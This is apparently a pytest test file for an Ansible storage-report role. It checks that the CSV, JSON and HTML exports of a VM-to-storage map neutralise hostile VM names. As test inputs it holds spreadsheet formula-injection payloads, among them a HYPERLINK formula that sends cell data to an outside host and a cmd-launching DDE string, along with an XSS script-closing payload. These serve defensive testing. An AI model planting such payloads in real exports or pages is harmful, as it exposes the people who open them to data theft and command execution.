# Copyright (c) 2026, the crossvisor.san authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The map as files: JSON of the form that its schema tells, and CSV in which nothing that somebody named a VM becomes a formula."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from collections.abc import Callable
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from ansible_collections.crossvisor.san.plugins.module_utils._san import model
from ansible_collections.crossvisor.san.plugins.module_utils._san.maps.merge import merged, of_results
from ansible_collections.crossvisor.san.plugins.module_utils._san.model import (
    FileSystem,
    Host,
    ScsiDevice,
    StorageMapping,
    Use,
    VirtualDisk,
    VirtualMachine,
)
from ansible_collections.crossvisor.san.plugins.module_utils._san.services.array_view import ArraySource
from ansible_collections.crossvisor.san.plugins.module_utils._san.services.storage_map.mapper import storage_map
from tests.examples import share
from tests.report_map import map_in_page
from tests.unit.ports import NAME as LUN
from tests.unit.ports import MemoryArray, MemoryHypervisor, lun

ROLE = Path(__file__).parents[3] / "roles" / "storage_report"
TEMPLATES = ROLE / "templates"
COLUMNS = list(StorageMapping.__annotations__)

Render = Callable[..., str]


def rendered(render: Render, template: str, *mappings: dict[str, Any]) -> str:
    maps: list[dict[str, Any]] = [{"virtual_machines": [], "storage_resources": []}]
    variables = {"storage_report_maps": maps, "storage_report_document": {"mappings": mappings}}
    return render((TEMPLATES / template).read_text(), role_path=str(ROLE), **variables)


def mapping(**values: Any) -> dict[str, Any]:
    return {**dict.fromkeys(COLUMNS, ""), "size_bytes": 1 << 30, "lun_id": 3, "mounts": [], **values}


def written(render: Render, **values: Any) -> dict[str, str]:
    """The row that a program reads back from the file."""
    found = list(csv.DictReader(io.StringIO(rendered(render, "storage_map.csv.j2", mapping(**values)), newline="")))
    assert len(found) == 1
    return dict(found[0])


def test_the_file_has_every_column_of_the_map(render: Render) -> None:
    assert list(written(render)) == COLUMNS


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\rapp01",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "--1",
        "-1;=1+1",
    ],
)
def test_what_a_spreadsheet_would_compute_is_text(render: Render, name: str) -> None:
    cell = written(render, vm_name=name)["vm_name"]
    assert cell.startswith("'")
    assert cell.replace("'", "") == name.replace("'", "")


@pytest.mark.parametrize("name", ["app;=1+1", "app;-1+1", "app\t@SUM(1+1)", "app\n=1+1"])
def test_a_formula_behind_another_separator_is_text_too(render: Render, name: str) -> None:
    separator = max(name.find(character) for character in ";\t\n")
    assert written(render, vm_name=name)["vm_name"] == f"{name[: separator + 1]}'{name[separator + 1 :]}"


@pytest.mark.parametrize(
    "name", ["app-01", "a=b", "[gold] app/app.vmdk", "C:\\VMs\\a.vhdx", "192.0.2.21:/exports", "", "it's", "a, b", "r\u00e4um"]
)
def test_what_is_no_formula_stays_as_it_is(render: Render, name: str) -> None:
    assert written(render, vm_name=name)["vm_name"] == name


@pytest.mark.parametrize("number", [-1, 0, 7, -12.5])
def test_a_number_stays_a_number_below_zero_too(render: Render, number: float) -> None:
    assert written(render, size_bytes=number, vm_name=str(number))["size_bytes"] == str(number)
    assert written(render, vm_name=str(number))["vm_name"] == str(number)


def test_what_is_unknown_is_an_empty_cell(render: Render) -> None:
    assert written(render, lun_id=None)["lun_id"] == ""


@settings(max_examples=share(3 / 5), suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.text(alphabet="=+-@;\t\r\n \"'a1", max_size=8))
@example("\n=1")
def test_no_cell_begins_as_a_formula(render: Render, name: str) -> None:
    cell = written(render, vm_name=name)["vm_name"]
    assert not cell.lstrip(' \t\r\n"').startswith(("=", "+", "@")), repr(cell)
    assert cell[:1] not in ("\t", "\r", "\n")


def test_other_formats_hold_the_name_as_it_is(render: Render) -> None:
    row = mapping(vm_name="=1+1", status="mapped")
    assert json.loads(rendered(render, "storage_map.json.j2", row))["mappings"][0]["vm_name"] == "=1+1"


@pytest.mark.parametrize("name", ["</script><script>alert(1)</script>", "<!--<script>", "\u2028", 'a"b\\c', "=1+1"])
def test_the_page_holds_the_map_and_no_name_ends_its_script(render: Render, name: str) -> None:
    page = rendered(render, "report.html.j2", mapping(vm_name=name))
    assert [found["vm_name"] for found in map_in_page(page)["mappings"]] == [name]
    assert page.count("<script") == 2


def test_the_page_runs_its_own_script_and_style_and_nothing_else(render: Render) -> None:
    page = rendered(render, "report.html.j2", mapping())
    for name in ("script", "style"):
        text = page.rpartition(f"<{name}>")[2].partition(f"</{name}>")[0]
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"{name}-src 'sha256-{digest}';" in page
    assert "default-src 'none'" in page


def test_several_mount_points_are_one_cell(render: Render) -> None:
    assert written(render, mounts=["/", "/srv"])["mounts"] == "/; /srv"
    assert written(render, mounts=["=1+1", "=2"])["mounts"] == "'=1+1;' =2"


SCHEMA = json.loads((TEMPLATES.parent / "files" / "storage_map.schema.json").read_text())
NASTY = [
    "quotes \" and ' and \\",
    "two\nlines\r\n",
    "</script><script>alert(1)</script>",
    "\u202eright to left \u0627\u0644\u0639",
    "x" * 500,
    "{{ 7 * 7 }} {% raw %}",
    "=1+1",
]
DISK: dict[str, Any] = {
    "size_bytes": 11,
    "path": "[gold] a.vmdk",
    "file_system": "ds-1",
    "family": "SCSI",
    "bus": 0,
    "unit": 1,
    "thin": True,
}


def world(name: str) -> dict[str, Any]:
    """What the module returns of a world in which everything has this name."""
    seen = [ScsiDevice("h1", str(LUN), LUN, 1 << 30, name, name, paths_live=3, paths_dead=1), ScsiDevice("h1", name, None, 1)]
    stores = [FileSystem("ds-1", name, "vmfs", ["h1"], [str(LUN)]), FileSystem("ds-2", name, "vmfs", ["h1"], [name])]
    disks = [VirtualDisk("1", name, "image", mounts=[name], **DISK), VirtualDisk("2", name, "image", file_system="ds-2")]
    raw = VirtualDisk("3", name, "passthrough", device=name)
    vm = VirtualMachine(name, name, "u-1", host="h1", cluster=name, folder=name, disks=[*disks, raw])
    lost = VirtualMachine("vm-2", name, host="h1")
    doubt = Use("VM", name, "vm-2", "cannot be read because it is inaccessible")
    array = MemoryArray(replace(lun(LUN), svm=name, path=f"/vol/{name}"))
    hypervisor = MemoryHypervisor([Host("h1", name, name)], [vm, lost], stores, seen, uses=[doubt])
    found = storage_map(hypervisor, [ArraySource("ontap", lambda: array)], endpoint=name)
    return {
        "endpoint": {**asdict(found.endpoint), "warnings": [name]},
        "mappings": found.mappings,
        "virtual_machines": found.virtual_machines,
        "storage_resources": found.storage_resources,
    }


def files(render: Render, maps: dict[str, dict[str, Any]]) -> tuple[dict[str, Any], list[dict[str, str]]]:
    """The map as JSON and as CSV, of what each host registered."""
    document = of_results(maps, 0)
    variables = {"storage_report_document": document}
    as_json, as_csv = (render((TEMPLATES / f"storage_map.{kind}.j2").read_text(), **variables) for kind in ("json", "csv"))
    return json.loads(as_json), list(csv.DictReader(io.StringIO(as_csv, newline="")))


@pytest.mark.parametrize("name", NASTY)
def test_files_of_nasty_names_have_the_form_that_is_promised_and_hold_the_names_as_they_are(render: Render, name: str) -> None:
    as_json, as_csv = files(render, {"vc01": world(name)})
    Draft202012Validator(SCHEMA).validate(as_json)
    assert {row["vm_name"] for row in as_json["mappings"]} == {name}
    assert {row["status"] for row in as_json["mappings"]} == {"mapped", "local", "unresolved"}
    assert [row["size_bytes"] for row in as_csv] == [str(row["size_bytes"]) for row in as_json["mappings"]]
    assert {row["vm_name"].lstrip("'") for row in as_csv} == {name.lstrip("'")}


def test_an_endpoint_that_failed_is_missing_with_the_reason(render: Render) -> None:
    lost = {"failed": True, "msg": "No route to vc02."}
    as_json, _as_csv = files(render, {"vc01": world("app"), "vc02": lost, "vc03": {}})
    Draft202012Validator(SCHEMA).validate(as_json)
    assert [(one["name"], one["status"], one["reason"]) for one in as_json["endpoints"]] == [
        ("app", "ok", ""),
        ("vc02", "missing", "No route to vc02"),
        ("vc03", "missing", "no map of it was given"),
    ]


def test_a_merge_has_the_form_that_is_promised_with_what_it_left_out() -> None:
    one, other = ({**of_results({name: world("app")}, 0), "endpoints": []} for name in ("vc01", "vc02"))
    for name, observed, document in (("vc01", "2026-11-28T06:00:00Z", one), ("vc02", "2026-11-28T18:00:00Z", other)):
        place = {"name": name, "type": "vmware", "address": name, "identity": "4213", "observed": observed}
        document["endpoints"] = [{**place, "status": "ok", "reason": "", "warnings": []}]
    whole = merged([one, other])
    assert [reading["name"] for reading in whole["superseded"]] == ["vc01"]
    Draft202012Validator(SCHEMA).validate(whole)
    del whole["superseded"][0]["observed"]
    assert not Draft202012Validator(SCHEMA).is_valid(whole)


def test_the_schema_tells_every_column_and_requires_it(render: Render) -> None:
    Draft202012Validator.check_schema(SCHEMA)
    assert set(SCHEMA["$defs"]["mapping"]["required"]) == set(COLUMNS)
    as_json, _as_csv = files(render, {"vc01": world("app")})
    for form in ("mappings", "virtual_machines", "storage_resources", "endpoints"):
        for name in list(as_json[form][0]):
            broken = {**as_json, form: [{key: value for key, value in as_json[form][0].items() if key != name}]}
            assert not Draft202012Validator(SCHEMA).is_valid(broken), f"{form} without {name}"
    assert not Draft202012Validator(SCHEMA).is_valid({**as_json, "generated": "today"})


def test_the_schema_knows_every_power_that_a_vm_may_have() -> None:
    powers = {model.POWERED_ON, model.POWERED_OFF, model.SUSPENDED, model.POWER_UNKNOWN}
    assert set(_power(SCHEMA)) == powers


def _power(schema: Any) -> list[str]:
    if isinstance(schema, dict):
        if "power" in schema and "enum" in schema["power"]:
            return list(schema["power"]["enum"])
        return next((found for value in schema.values() if (found := _power(value))), [])
    return []
